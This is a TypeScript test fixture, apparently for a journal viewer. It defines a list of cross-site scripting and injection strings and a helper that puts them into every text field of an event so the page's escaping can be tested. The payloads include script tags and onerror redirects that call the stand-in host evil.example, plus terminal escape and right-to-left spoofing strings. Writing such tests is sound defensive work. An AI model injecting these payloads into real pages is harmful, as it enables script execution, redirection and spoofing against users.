import type {Stored} from '../../../src/engine/event.ts';
import {parseEvent} from '../../../src/journal/parse-event.ts';

/** The host in every address below: nothing on the page may know it as one. */
export const evil = 'evil.example';

/** What a BMC, a disk, a host or somebody who can write to a journal could try. */
export const hostile: readonly string[] = [
  `<script>fetch('http://${evil}/')</script>`,
  `</title><script src="//${evil}/x.js"></script>`,
  `"><img src=x onerror="location='https://${evil}/'">`,
  `' onmouseover='alert(1)' x='`,
  `\` onload=alert(1) \``,
  `</style><style>@import url(https://${evil}/s.css);</style>`,
  `<svg/onload=alert(1)><a href="javascript:alert(1)">x</a></svg>`,
  `]]><!--<script>alert(1)</script>-->`,
  `&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=1&#62;`,
  `<meta http-equiv=refresh content="0;url=https://${evil}/">`,
  `<base href=//${evil}/><iframe srcdoc="<script>alert(1)</script>">`,
  `https://${evil}/pixel.png www.${evil} data:text/html,<script>1</script>`,
  `\u001b]8;;http://${evil}/\u0007click\u001b]8;;\u0007 \u001b[2J \u202egnp.exe\u202c`,
  `a\u0000b\nfake line\r\n\tx \u2028<script\u2028>`,
  'x'.repeat(300),
  '漢字<b>🙂</b>'.repeat(40),
];

/**
 * The event with `text` in the place of every text in it that stays an event: what a reader of the journal takes, and no
 * more. Undefined where it has no such place.
 */
export function poisoned(stored: Stored, text: string): Stored | undefined {
  let event = stored.event as unknown;
  let changed = false;
  for (const path of textPaths(event, [])) {
    const next = replaced(event, path, text);
    if (parseEvent(JSON.stringify(next)) === undefined) continue;
    event = next;
    changed = true;
  }
  return changed ? {...stored, event: event as Stored['event']} : undefined;
}

function textPaths(value: unknown, path: readonly (string | number)[]): readonly (readonly (string | number)[])[] {
  if (typeof value === 'string') return [path];
  if (Array.isArray(value)) return value.flatMap((each, index) => textPaths(each, [...path, index]));
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([name, each]) => textPaths(each, [...path, name]));
}

function replaced(value: unknown, [first, ...rest]: readonly (string | number)[], text: string): unknown {
  if (first === undefined) return text;
  if (Array.isArray(value)) return value.map((each, index) => (index === first ? replaced(each, rest, text) : each));
  const object = value as Readonly<Record<string, unknown>>;
  return {...object, [first]: replaced(object[first], rest, text)};
}
